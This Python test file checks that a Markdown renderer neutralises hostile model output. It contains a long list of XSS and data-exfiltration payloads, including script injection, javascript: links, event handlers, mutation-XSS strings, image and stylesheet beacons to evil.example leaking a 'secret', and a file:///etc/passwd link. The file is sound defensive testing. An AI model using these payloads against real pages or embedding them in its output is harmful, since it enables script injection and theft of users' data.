"""Markdown of a model is hostile input: nothing of it runs, loads or hides."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from apps.core.markdown import TAGS, render_answer, render_article
from tests.strict.html import inspect

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    "![leak](https://evil.example/?q=secret)",
    "![leak](//evil.example/?q=secret)",
    "![leak][r]\n\n[r]: https://evil.example/?q=secret",
    "[![leak](https://evil.example/?q=secret)](https://evil.example)",
    "<img src=https://evil.example/?q=secret>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div style="background:url(https://evil.example/?q=secret)">x</div>',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) |\n|:-:|\n| ![x](https://evil.example/) |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<p class="toast" hx-on:click="alert(1)">x</p>',
    "::: warning\n<script>alert(1)</script>\n:::",
]  # fmt: skip


class Elements(HTMLParser):
    """The elements and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in {"br", "hr"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open
        assert self.open.pop() == tag, "Every element is closed in order."


@pytest.mark.parametrize("render", [render_answer, render_article])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_loads_or_hides(text: str, render: object) -> None:
    html = render(text)  # type: ignore[operator]
    assert inspect(html) == []
    elements = Elements(html)
    assert elements.open == []
    for tag, attributes in elements.found:
        assert tag in TAGS
        assert set(attributes) <= {
            "href",
            "title",
            "class",
            "rel",
            "start",
            "role",
            "aria-label",
            "tabindex",
            "data-copy",
            "type",
        }
        href = attributes.get("href")
        if href is not None:
            assert href.split(":")[0].lower() in {"http", "https", "mailto"} or ":" not in href
            assert attributes.get("rel") == "noopener noreferrer nofollow"


def test_an_image_is_its_description_and_never_an_address() -> None:
    html = render_answer("before ![a chart](https://evil.example/?q=secret) after")
    assert "evil.example" not in html
    assert "a chart" in html


def test_lists_and_tables_nest() -> None:
    html = render_answer("1. one\n   - inner\n     - deeper\n2. two\n\n> quote\n>\n> | a | b |\n> |:--|--:|\n> | 1 | 2 |\n")
    elements = [tag for tag, _ in Elements(html).found]
    assert elements.count("ul") == 2
    assert elements.count("ol") == 1
    assert "table" in elements[elements.index("blockquote") :]
    assert 'class="align-right"' in html


def test_code_stands_as_it_was_written() -> None:
    html = render_answer("```python\nif a < b && c > d:\n    print('é')\n```")
    assert "if a &lt; b &amp;&amp; c &gt; d:" in html
    assert 'class="language-python"' in html


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5_000 + "x",
        "- " * 5_000 + "x",
        "[" * 20_000,
        "*" * 20_000,
        "`" * 20_000,
        "![" * 10_000 + "](x)" * 10_000,
        "<" * 20_000,
        "| a " * 2_000 + "|\n" + "|---" * 2_000 + "|\n" + ("| b " * 2_000 + "|\n") * 5,
        "a\n" * 20_000,
        "&" * 20_000,
        "\\" * 20_000,
    ],
    ids=["quotes", "lists", "brackets", "stars", "ticks", "images", "angles", "wide table", "lines", "ampersands", "backslashes"],
)
@pytest.mark.timeout(10)
def test_pathological_text_neither_hangs_nor_breaks(text: str) -> None:
    render_answer(text)


def test_half_of_an_answer_is_rendered_at_any_moment() -> None:
    text = (
        "# Title\n\n- **bold [link](https://ok.example) `code`\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    for end in range(len(text)):
        assert Elements(render_answer(text[:end])).open == []


def test_call_outs_are_for_articles_only() -> None:
    assert "callout--takeaway" in render_article("::: takeaway\nMind this.\n:::")
    assert "callout" not in render_answer("::: takeaway\nMind this.\n:::")
